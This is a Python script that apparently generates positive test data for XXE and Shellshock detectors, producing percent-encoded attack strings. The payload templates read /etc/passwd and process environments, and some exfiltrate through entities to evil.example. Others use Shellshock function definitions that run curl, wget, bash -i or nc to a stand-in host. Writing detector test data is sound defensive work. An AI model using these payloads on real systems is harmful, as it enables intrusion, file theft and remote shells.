#!/usr/bin/env python3
"""gen-xxe-shellshock.py - write the generated positive tables for the XXE
and Shellshock detectors: tests/data/gen-xxe.txt and
tests/data/gen-shellshock.txt, one value a line, percent-encoded as a
query or form value carries them (newlines as %0a).

Written from the grammars, not copied from any list:
  XXE (XML 1.0 2.8 and 4.2, XInclude 1.0): optional XML declaration x
        DOCTYPE with an internal subset holding a general or parameter
        entity declared SYSTEM or PUBLIC (file:, http:, php://filter,
        expect:, jar:, netdoc:), a parameter entity expanded in the
        subset (%x;), an entity built from other entities, or a DOCTYPE
        whose external subset is a remote DTD; or an xi:include element
        with parse="text" x element using the entity x whitespace and
        case of the keywords x encoding (percent, plus for spaces).
  Shellshock: the function definition bash imports from the environment,
        '()' x optional spaces x '{' x body (':;', '_;', ':', a command)
        x '}' (an empty body is a syntax error bash never runs) x separator x command, including the parser-bug forms
        '() { _; } >_[$($())] { cmd; }' and '() { (a)=>\\'.
Deterministic (seeded). Usage: tools/gen-xxe-shellshock.py [DIR]."""
import os
import random
import sys
import urllib.parse

R = random.Random(2014)

URIS = ['file:///etc/passwd', 'file:///c:/windows/win.ini', 'http://evil.example/x.dtd',
        'php://filter/convert.base64-encode/resource=index.php', 'expect://id',
        'jar:http://evil.example/a.jar!/x', 'netdoc:/etc/passwd', 'file:///proc/self/environ',
        'https://10.0.0.1/e.dtd', '/etc/hostname', 'ftp://evil.example/x']
ROOTS = ['foo', 'root', 'r', 'data', 'x', 'svg', 'soap:Envelope']


def ws():
    return R.choice([' ', ' ', '  ', '\n', '\t', '\r\n'])


def kw(w):
    return w if R.random() < 0.85 else w.lower() if w.isupper() else w


def xxe_one():
    root = R.choice(ROOTS)
    decl = R.choice(['', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>\n'])
    uri = R.choice(URIS)
    q = R.choice(['"', "'"])
    ext = R.choice(['SYSTEM' + ws() + q + uri + q,
                    'PUBLIC' + ws() + q + '-//X//Y' + q + ws() + q + uri + q])
    shape = R.random()
    name = R.choice(['xxe', 'x', 'a', 'file', 'e1'])
    if shape < 0.45:
        sub = '<!ENTITY' + ws() + name + ws() + ext + '>'
        body = '<%s>&%s;</%s>' % (root, name, root.split(':')[0])
    elif shape < 0.65:
        sub = '<!ENTITY' + ws() + '%' + ws() + name + ws() + ext + '>' + ws() + '%' + name + ';'
        body = '<%s/>' % root
    elif shape < 0.75:
        sub = ('<!ENTITY % a SYSTEM "' + uri + '"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM \'http://evil.example/?%a;\'>">%b;')
        body = '<%s>&c;</%s>' % (root, root)
    elif shape < 0.85:
        return (decl + '<!DOCTYPE' + ws() + root + ws() + ext + '>' + '<%s>&%s;</%s>' % (root, name, root))
    else:
        return (decl + '<%s xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="%s"/></%s>'
                % (root, uri, root))
    return decl + '<!DOCTYPE' + ws() + root + ws() + '[' + ws() + sub + ws() + ']>' + body


def shellshock_one():
    sp = lambda: R.choice(['', ' ', '  '])
    cmd = R.choice(['/bin/id', 'echo; /bin/cat /etc/passwd', '/usr/bin/curl http://evil.example/x',
                    'ping -c 3 10.0.0.1', 'sleep 5', 'wget http://evil.example/s', 'bash -i', 'id',
                    'echo vulnerable', '/bin/bash -c "nc 10.0.0.1 4444"'])
    r = R.random()
    if r < 0.7:
        body = R.choice([':;', ' :;', ':; ', '_;', ' _; ', ' :', 'echo hi;', ' x;'])
        v = '()' + sp() + '{' + body + '}' + R.choice([';', ' ;', '; ', ';;']) + sp() + cmd
    elif r < 0.85:
        v = '() { _; } >_[$($())] { ' + cmd + '; }'
    elif r < 0.95:
        v = "() { (a)=>\\' " + cmd
    else:
        v = '() {' + sp() + ':;' + sp() + '};' + cmd
    return v


def enc(v):
    if R.random() < 0.3:
        return urllib.parse.quote(v, safe='')
    if R.random() < 0.5:
        return urllib.parse.quote_plus(v, safe='/:')
    return v.replace('%', '%25').replace('\n', '%0a').replace('\r', '%0d').replace('\t', '%09') \
        .replace('&', '%26').replace('#', '%23').replace('+', '%2b').replace(' ', '%20')


def main():
    d = sys.argv[1] if len(sys.argv) > 1 else 'tests/data'
    for name, fn, count in (('gen-xxe.txt', xxe_one, 2000), ('gen-shellshock.txt', shellshock_one, 1000)):
        out = set()
        for _ in range(count):
            out.add(enc(fn()))
        with open(os.path.join(d, name), 'w') as f:
            for l in sorted(out):
                assert '\n' not in l and '\r' not in l
                f.write(l + '\n')
        print('%s: %d lines' % (name, len(out)))


if __name__ == '__main__':
    main()
